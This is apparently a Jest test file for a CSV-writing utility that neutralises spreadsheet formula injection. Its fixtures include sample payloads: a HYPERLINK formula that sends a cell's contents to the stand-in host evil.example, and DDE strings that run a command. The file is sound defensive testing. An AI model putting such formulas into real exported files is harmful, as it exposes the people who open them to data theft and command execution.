import { describe, it, expect } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { isFormulaLike, safeCell, toSafeCsv } from '../../src/util/csv-write.js';

describe('safe CSV cells (OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`],
    ["+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`],
    ['-2+3+cmd|\' /C calc\'!A0', `'-2+3+cmd|' /C calc'!A0`],
    ['@SUM(1+1)*cmd|\' /C calc\'!A0', `'@SUM(1+1)*cmd|' /C calc'!A0`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['-', `'-`],
  ])('neutralises %j', (input, expected) => {
    expect(safeCell(input)).toBe(expected);
    expect(isFormulaLike(input)).toBe(true);
  });

  it.each(['-3.5', '+12', '-1e3', '42', '.5', 'Acme, Inc.', 'Series B (+14)', '', "'=already text"])('leaves %j as it is', (v) => {
    expect(safeCell(v)).toBe(v);
  });

  it('writes numbers as numbers, null and undefined as empty cells', () => {
    expect(safeCell(-3.5)).toBe('-3.5');
    expect(safeCell(null)).toBe('');
    expect(safeCell(undefined)).toBe('');
    expect(safeCell(true)).toBe('true');
  });

  it('a whole file: every formula cell neutralised, quoting intact, numbers untouched', () => {
    const text = toSafeCsv([
      ['Name', 'Revenue', 'Notes'],
      ['=HYPERLINK("http://x","y")', -3.5, "+cmd|' /C calc'!A0"],
      ['Acme', '-12.25', 'line1\nline2'],
    ]);
    const back = parse(text) as string[][];
    expect(back[1]).toEqual([`'=HYPERLINK("http://x","y")`, '-3.5', `'+cmd|' /C calc'!A0`]);
    expect(back[2]).toEqual(['Acme', '-12.25', 'line1\nline2']);
    for (const row of back) for (const c of row) expect(isFormulaLike(c)).toBe(false);
  });
});
